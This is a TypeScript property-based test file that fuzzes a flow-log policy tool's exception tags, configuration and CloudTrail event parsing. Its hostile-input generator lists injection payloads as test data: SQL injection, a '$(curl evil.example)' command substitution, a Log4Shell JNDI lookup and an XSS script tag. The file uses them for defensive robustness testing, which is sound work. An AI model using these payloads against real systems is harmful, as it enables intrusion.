import { readdirSync, readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createClientPool } from "../src/aws-clients.ts";
import { parseCloudTrailEvent } from "../src/cloudtrail.ts";
import {
  coercePolicyValue,
  loadConfig,
  POLICY_ENV_VARS,
  type Policy,
  PolicySchema,
  parsePolicy,
} from "../src/config.ts";
import { ConfigError, EventValidationError } from "../src/errors.ts";
import { handleCloudTrailEvent } from "../src/event-handler.ts";
import { EXCEPTION_TAGS, evaluateException, parseExceptionExpiry } from "../src/exceptions.ts";

/** Values people and attackers put in tags and settings: dates gone wrong, huge strings, unicode, injections. */
const hostileString = fc.oneof(
  fc.string(),
  fc.string({ unit: "grapheme", maxLength: 50 }),
  fc.string({ unit: "binary", maxLength: 50 }),
  fc.constantFrom(
    "2026-02-30",
    "2026-12-31T25:00:00Z",
    "31/12/2026",
    "9999-12-31",
    "0000-01-01",
    "2026-12-31T18:00:00+05:30",
    "'; DROP TABLE vpcs; --",
    "$(curl evil.example)",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\u0000\u202e\ufeff",
    "２０２６-１２-３１",
    "NaN",
    "-1",
    "1e309",
  ),
  fc.string({ minLength: 300, maxLength: 5000 }),
);

const RUNS = { numRuns: 300, seed: 20261122 };

/** Policy objects that are often valid, so the property also checks what an accepted policy holds. */
const plausiblePolicy = fc.record(
  {
    trafficType: fc.constantFrom("REJECT", "ALL", "ACCEPT"),
    retentionDays: fc.constantFrom(365, 400, 3653, 30, 366),
    logGroupName: fc.constantFrom("/aws/vpc-flow-logs/{vpcId}", "/fl/{region}/{accountId}", "/x/{vpc}", ""),
    includeDefaultVpcs: fc.boolean(),
    maxAggregationInterval: fc.constantFrom(60, 600, 300),
    maxExceptionDays: fc.integer({ min: -1, max: 4000 }),
  },
  { requiredKeys: [] },
);

describe("exception tags: anything in, a verdict out, never honoured unless valid", () => {
  it("never throws, and only a well-formed, bounded exception with an owner is honoured", () => {
    const now = new Date("2026-11-22T12:00:00Z");
    fc.assert(
      fc.property(
        fc.option(hostileString),
        fc.option(hostileString),
        fc.option(hostileString),
        (owner, expires, reason) => {
          const tags: Record<string, string> = {};
          if (owner !== null) tags[EXCEPTION_TAGS.owner] = owner;
          if (expires !== null) tags[EXCEPTION_TAGS.expires] = expires;
          if (reason !== null) tags[EXCEPTION_TAGS.reason] = reason;
          const verdict = evaluateException(tags, now, 365);
          if (verdict?.state === "valid") {
            const expiry = parseExceptionExpiry(verdict.expires)!;
            expect(verdict.owner.trim().length).toBeGreaterThan(0);
            expect(expiry.getTime()).toBeGreaterThan(now.getTime());
            expect(expiry.getTime() - now.getTime()).toBeLessThanOrEqual(365 * 86_400_000);
          }
          expect(JSON.stringify(verdict ?? null).length).toBeLessThan(2_000);
        },
      ),
      RUNS,
    );
  });
});

describe("configuration: a policy or a ConfigError naming the setting, nothing else", () => {
  it("holds for any value of any FLOWLOG_GUARD_* variable", () => {
    const names = [...Object.values(POLICY_ENV_VARS), "FLOWLOG_GUARD_SURPRISE"];
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom(...names), hostileString, { maxKeys: 4 }), (env) => {
        let policy: Policy;
        try {
          policy = loadConfig(env);
        } catch (error) {
          expect(error).toBeInstanceOf(ConfigError);
          expect((error as ConfigError).message).toMatch(/FLOWLOG_GUARD_/);
          return;
        }
        // Accepted: every variable set is the policy's value, and the policy is a valid one.
        expect(PolicySchema.parse(policy)).toEqual(policy);
        for (const [field, name] of Object.entries(POLICY_ENV_VARS) as [keyof Policy, string][]) {
          const raw = env[name];
          if (raw) expect(policy[field], name).toEqual(coercePolicyValue(field, raw));
        }
      }),
      RUNS,
    );
  });

  it("holds for any JSON as a policy object", () => {
    fc.assert(
      fc.property(fc.oneof(fc.anything(), plausiblePolicy), (input) => {
        let policy: Policy;
        try {
          policy = parsePolicy(input);
        } catch (error) {
          expect(error).toBeInstanceOf(ConfigError);
          return;
        }
        // Accepted: every field given is kept as given, and the result is a valid policy.
        expect(PolicySchema.parse(policy)).toEqual(policy);
        for (const [field, value] of Object.entries(input as object))
          if (value !== undefined) expect(policy[field as keyof Policy], field).toEqual(value);
      }),
      RUNS,
    );
  });
});

const fixturesDir = new URL("../../../test/fixtures/cloudtrail/", import.meta.url);
const fixtures = readdirSync(fixturesDir)
  .filter((file) => file.endsWith(".json"))
  .map((file) => JSON.parse(readFileSync(new URL(file, fixturesDir), "utf8")) as Record<string, unknown>);

/** Every path to a value in a JSON document, as key lists. */
function pathsOf(value: unknown, prefix: string[] = []): string[][] {
  if (value === null || typeof value !== "object") return [prefix];
  return [prefix, ...Object.entries(value).flatMap(([key, child]) => pathsOf(child, [...prefix, key]))];
}

function mutate(document: unknown, path: string[], replacement: unknown, remove: boolean): unknown {
  if (path.length === 0) return replacement;
  const copy = structuredClone(document) as Record<string, unknown>;
  let node = copy as Record<string, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string, unknown>;
  if (remove) delete node[path.at(-1)!];
  else node[path.at(-1)!] = replacement;
  return copy;
}

const mutatedEvent = fc
  .tuple(fc.nat(fixtures.length - 1), fc.nat(), fc.oneof(fc.anything(), hostileString), fc.boolean())
  .map(([index, pathPick, replacement, remove]) => {
    const event = fixtures[index]!;
    const paths = pathsOf(event);
    return mutate(event, paths[pathPick % paths.length]!, replacement, remove);
  });

describe("events: parsed, or refused with an EventValidationError naming a field, and no AWS call", () => {
  it("never fails any other way on fixtures mutated at random paths, or on arbitrary JSON", () => {
    fc.assert(
      fc.property(fc.oneof(mutatedEvent, fc.anything()), (event) => {
        try {
          const parsed = parseCloudTrailEvent(event);
          expect(["vpcs", "subnets", "region", "log-group", "role", "none"]).toContain(parsed.target.scope);
        } catch (error) {
          expect(error).toBeInstanceOf(EventValidationError);
          expect((error as EventValidationError).message).toMatch(/^[\w.()-]+: /);
        }
      }),
      { ...RUNS, numRuns: 1_000 },
    );
  });

  it("makes no AWS call at all for an event it refuses", async () => {
    const identity = {
      accountId: "123456789012",
      partition: "aws",
      callerArn: "arn:aws:iam::123456789012:user/ops",
    };
    await fc.assert(
      fc.asyncProperty(mutatedEvent, async (event) => {
        let refused = false;
        try {
          parseCloudTrailEvent(event);
        } catch {
          refused = true;
        }
        fc.pre(refused);
        const pool = createClientPool({ credentials: { accessKeyId: "none", secretAccessKey: "none" } });
        await expect(
          handleCloudTrailEvent(event, { policy: parsePolicy({}), pool, identity }),
        ).rejects.toBeInstanceOf(EventValidationError);
        expect(pool.counter.total).toBe(0);
      }),
      { ...RUNS, numRuns: 200 },
    );
  });
});
